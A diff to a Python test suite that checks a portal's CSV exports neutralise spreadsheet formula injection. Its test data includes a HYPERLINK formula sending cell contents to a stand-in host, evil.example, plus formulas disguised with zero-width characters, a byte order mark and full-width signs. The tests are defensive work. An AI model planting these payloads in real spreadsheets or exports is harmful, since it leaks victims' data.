@@ -32,6 +32,19 @@ AUDIT_HEADER = ["When (UTC)", "Who", "What", "Account", "Environment", "Details"
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2", "@SUM(A1:A9)", "\tTabbed", "\rReturned"]
 # Names the import's own checks let through (they refuse control characters, and trim tabs).
 HOSTILE_IMPORTED = HOSTILE[:4]
+# The same, behind what a person does not see or reads as the same: leading spaces (a no-break and an ideographic
+# one too), zero-width characters, a byte order mark, full-width forms (PRODUCT.md's `/animals.csv` row).
+DISGUISED = [
+    " =1+1",
+    "\u00a0+1",
+    "\u200b-2",
+    "\u2060\u200d@SUM(A1)",
+    "\ufeff=HYPERLINK(A1)",
+    '\uff1dHYPERLINK("http://evil.example/")',
+    "\u3000\uff0b1",
+    "\ufe62\uff11",  # a small plus sign, then a full-width 1
+    "Rex;\u200b=1+1",
+]
 
 
 def rows_of(response):
@@ -168,13 +181,15 @@ def test_a_previewing_admin_downloads_the_environment_they_see(portal_app, auth_
 def test_names_and_labels_a_spreadsheet_would_run_come_back_as_text(portal_app, auth_for, production_store):
     production_store.received.clear()
     for name in HOSTILE:
-        production_store.add(name, -2, "sold")
-    label(auth_for(portal_app, "admin"), -2, "=1+1")
+        production_store.add(name, 12, "sold")
+    production_store.add("Minus", -2, "sold")  # the store's own negative id, which the portal never sends
+    label(auth_for(portal_app, "admin"), 12, "=1+1")
     _, *rows = rows_of(portal_app.test_client().get("/animals.csv?status=sold"))
-    hostile = [row for row in rows if row[2] == "-2"]
+    hostile = [row for row in rows if row[2] == "12"]
     assert sorted(row[1] for row in hostile) == sorted("'" + name for name in HOSTILE)
-    # The category id stays the number it is; the label is text like any other.
-    assert {(row[2], row[3]) for row in hostile} == {("-2", "'=1+1")}
+    # The category id stays the number it is, a negative one too; the label is text like any other.
+    assert {(row[2], row[3]) for row in hostile} == {("12", "'=1+1")}
+    assert [row[2] for row in rows if row[1] == "Minus"] == ["-2"]
 
 
 @pytest.mark.parametrize(
@@ -294,7 +309,25 @@ def test_user_names_a_spreadsheet_would_run_come_back_as_text_in_the_audit_csv(p
     failed_logins(portal_app, HOSTILE)
     _, *rows = rows_of(auth_for(portal_app, "admin").get("/admin/audit.csv"))
     failed = [row[1] for row in rows if row[2] == "login failed"]
-    assert failed == ["'" + name for name in reversed(HOSTILE)]
+    # A control character of a name from outside is kept as U+FFFD (audit.bounded), which no spreadsheet runs.
+    assert failed == list(reversed(["'" + name for name in HOSTILE[:4]] + ["\ufffdTabbed", "\ufffdReturned"]))
+
+
+def test_formulas_behind_spaces_zero_width_characters_a_bom_or_in_full_width_come_back_as_text(
+    portal_app, auth_for, production_store
+):
+    for name in DISGUISED:
+        production_store.add(name, -5, "sold")
+    _, *rows = rows_of(portal_app.test_client().get("/animals.csv?status=sold"))
+    names = sorted(row[1] for row in rows if row[2] == "-5")
+    assert names == sorted([*("'" + name for name in DISGUISED[:-1]), "Rex;'\u200b=1+1"])
+    staff = auth_for(portal_app, "staff")
+    path = upload(staff, as_csv([("name", "categoryId", "status"), *((name, -6, "") for name in DISGUISED[:-1])]))
+    path = path.headers["Location"]
+    press(staff, path, "start")
+    finished(staff, path)
+    _, *results = rows_of(staff.get(f"{path}/results.csv"))
+    assert results and all(row[1].startswith("'") for row in results), results
 
 
 def test_a_cell_a_semicolon_spreadsheet_would_split_has_no_part_it_would_run(portal_app, auth_for, production_store):
@@ -352,6 +385,17 @@ def test_the_audit_csv_reads_the_log_a_batch_at_a_time(make_portal, database_url
         ("Rex", "Rex"),
         ("", ""),
         ("a=b", "a=b"),
+        ("  =1", "'  =1"),
+        ("\u00a0\u202f+1", "'\u00a0\u202f+1"),
+        ("\u200b\u200c-2", "'\u200b\u200c-2"),
+        ("\ufeff@SUM(A1)", "'\ufeff@SUM(A1)"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
+        ("\uff0d2", "'\uff0d2"),
+        ("Rex;\u3000\uff1d1", "Rex;'\u3000\uff1d1"),
+        ("\u200bRex", "\u200bRex"),
+        ("\uff32ex = 1", "\uff32ex = 1"),
+        (" ", " "),
         (-2, -2),
         (None, None),
     ],
@@ -368,7 +412,7 @@ def as_csv(rows):
 
 def test_the_import_results_csv_writes_names_a_spreadsheet_would_run_as_text(portal_app, auth_for, production_store):
     staff = auth_for(portal_app, "staff")
-    path = upload(staff, as_csv([("name", "categoryId", "status"), *((name, -3, "") for name in HOSTILE_IMPORTED)]))
+    path = upload(staff, as_csv([("name", "categoryId", "status"), *((name, 3, "") for name in HOSTILE_IMPORTED)]))
     path = path.headers["Location"]
     press(staff, path, "start")
     assert finished(staff, path)["created"] == len(HOSTILE_IMPORTED)
@@ -379,5 +423,5 @@ def test_the_import_results_csv_writes_names_a_spreadsheet_would_run_as_text(por
     assert header == ["line", "name", "categoryId", "status", "outcome", "id", "message"]
     assert [row[1] for row in rows] == ["'" + name for name in HOSTILE_IMPORTED]
     # The category id stays the number it is.
-    assert {row[2] for row in rows} == {"-3"} and {row[4] for row in rows} == {"created"}
+    assert {row[2] for row in rows} == {"3"} and {row[4] for row in rows} == {"created"}
     assert sorted(created["name"] for created in creates(production_store)) == sorted(HOSTILE_IMPORTED)
